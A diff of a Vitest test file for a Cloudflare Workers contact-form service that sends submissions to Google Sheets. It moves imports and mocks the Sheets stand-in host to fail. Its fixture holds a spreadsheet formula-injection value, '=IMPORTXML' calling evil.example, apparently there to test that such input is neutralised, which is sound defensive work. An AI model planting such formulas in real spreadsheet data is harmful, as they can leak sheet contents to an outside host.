@@ -1,8 +1,8 @@
-import { env } from "cloudflare:test";
-import { beforeEach, describe, expect, it, vi } from "vitest";
+import { env, fetchMock } from "cloudflare:test";
+import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
 import { contactForm } from "~/forms/contact";
-import { forgetSheetsTokens, headerRow } from "~/lib/delivery/sheets.server";
-import { STANDIN_ORIGIN, startSheetsStandin } from "../support/sheets-standin";
+import { forgetSheetsTokens, headerRow } from "~/lib/destinations/sheets/sender.server";
+import { STANDIN_ORIGIN, startSheetsStandin } from "~/lib/destinations/sheets/standin";
 import { sinkEnv } from "./helpers";
 import { acceptThenDrain } from "./outbox-helpers";
 
@@ -15,8 +15,19 @@ const SPREADSHEET = "1AbCdEfGhIjKlMnOpQrStUvWxYz0123456789";
 const VALID = { name: "-Grace", email: "grace@example.org", message: '=IMPORTXML("https://evil.example","//a")' };
 
 beforeEach(async () => {
+  // The answer's own attempt has no route to the service here: its stand-in host fails it at once, as
+  // an unreachable service would, without a DNS lookup for a name that does not resolve.
+  fetchMock.activate();
+  fetchMock
+    .get(STANDIN_ORIGIN)
+    .intercept({ path: () => true, method: () => true })
+    .replyWithError(new TypeError("no route to the stand-in's host"));
   forgetSheetsTokens();
   await env.DB.exec("DELETE FROM delivery_attempts; DELETE FROM deliveries; DELETE FROM submissions");
+});
+
+afterEach(() => {
+  fetchMock.deactivate();
 });
 
 describe("Google Sheets on the outbox", () => {
